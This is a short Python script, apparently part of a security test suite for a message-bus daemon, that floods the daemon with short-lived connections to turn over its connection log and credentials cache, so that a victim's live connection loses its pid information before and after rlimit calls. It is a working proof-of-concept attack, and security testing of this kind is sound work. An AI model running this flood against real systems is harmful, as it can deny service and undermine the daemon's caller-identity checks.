#!/usr/bin/python3
# appear-flood.py: one user's flood of short bus connections against another
# user's live one (security-appear-flood). First written by the sixth attack
# (branch attack6, "B"): the daemon's log of when connections appeared (8192
# runs) and its credentials cache (64 callers) turned over, and a live
# connection lost pid 0 and pid numbers.
#   appear-flood.py victim FLAG [nobefore]
#       a connection: GetRlimit CORE (pid 0) and Prlimit of its own pid
#       (unless nobefore), then once FLAG exists the same two calls again;
#       prints "BEFORE|AFTER METHOD: OK|error-name"
#   appear-flood.py flood N
#       N connections one after another, each Hello + GetRlimit CORE (which
#       pins its caller, so the credentials cache turns over too), closed
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rawbus  # noqa: E402


def calls(bus, tag):
    for member, sig, args in (('GetRlimit', 's', ('CORE',)),
                              ('Prlimit', 'usbtt', (os.getpid(), 'CORE', False, 0, 0))):
        err, _ = rawbus.rcall(bus, member, sig, args)
        print(f'{tag} {member}: {err or "OK"}', flush=True)


if sys.argv[1] == 'victim':
    bus = rawbus.Bus()
    print('VICTIM', bus.name, os.getpid(), flush=True)
    if sys.argv[3:] != ['nobefore']:
        calls(bus, 'BEFORE')
    while not os.path.exists(sys.argv[2]):
        time.sleep(0.05)
    calls(bus, 'AFTER')
else:
    n, start = int(sys.argv[2]), time.monotonic()
    for _ in range(n):
        bus = rawbus.Bus()
        rawbus.rcall(bus, 'GetRlimit', 's', ('CORE',))
        bus.sock.close()
    print(f'FLOOD {n} connections in {time.monotonic() - start:.1f} s', flush=True)
